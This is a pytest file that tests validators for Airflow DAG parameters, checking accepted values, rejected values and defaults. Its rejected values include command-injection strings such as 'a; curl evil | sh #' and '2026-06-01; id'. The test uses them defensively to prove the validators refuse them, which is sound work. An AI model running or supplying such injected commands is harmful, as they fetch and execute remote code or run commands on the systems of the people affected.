"""What the form of a DAG takes, and what it refuses."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from airflow.sdk.exceptions import ParamValidationError

from utils.commands import PROJECT, TABLE
from utils.params import choice_param, date_param, flag_param, list_param, number_param, text_param

if TYPE_CHECKING:
    from airflow.sdk import Param


@pytest.mark.parametrize(
    ("param", "good", "bad"),
    [
        (date_param("d"), ["2026-06-01"], ["2026-6-1", "2026-13-01", "yesterday", "2026-06-01; id", None]),
        (text_param("t", pattern=PROJECT), ["moz-fx-data"], ["a; curl evil | sh #", "moz-fx-data x", "", None, 1]),
        (text_param("t", pattern=PROJECT, optional=True), ["moz-fx-data", None], ["a b"]),
        (flag_param("f"), [True, False], ["true", 1, None]),
        (number_param("n", default=8, minimum=1, maximum=50), [1, 50], [0, 51, "8", 1.5]),
        (choice_param("c", choices=["sql", "tmp"], default="sql"), ["tmp"], ["/etc", ""]),
        (list_param("l", pattern=TABLE), [[], ["a.b", "c.d"]], [["a.b", "c d"], "a.b", ["a.b;id"]]),
        (list_param("l", pattern=TABLE, at_least=1), [["a.b"]], [[]]),
    ],
)
def test_values(param: Param, good: list[Any], bad: list[Any]) -> None:
    for value in good:
        assert param.resolve(value) == value
    for value in bad:
        with pytest.raises(ParamValidationError):
            param.resolve(value)


@pytest.mark.parametrize(
    "param", [date_param("d"), text_param("t", pattern=PROJECT), list_param("l", pattern=TABLE, at_least=1)]
)
def test_what_has_no_default_must_be_given(param: Param) -> None:
    with pytest.raises(ParamValidationError, match="No value passed"):
        param.resolve()


@pytest.mark.parametrize(
    ("param", "default"),
    [
        (text_param("t", pattern=PROJECT, optional=True), None),
        (text_param("t", pattern=PROJECT, default="moz-fx-data"), "moz-fx-data"),
        (flag_param("f"), False),
        (flag_param("f", default=True), True),
        (number_param("n", default=8, minimum=1, maximum=50), 8),
        (choice_param("c", choices=["sql"], default="sql"), "sql"),
        (list_param("l", pattern=TABLE), []),
        (list_param("l", pattern=TABLE, default=["a.b"], at_least=1), ["a.b"]),
    ],
)
def test_defaults(param: Param, default: Any) -> None:
    assert param.resolve() == default
    assert param.description
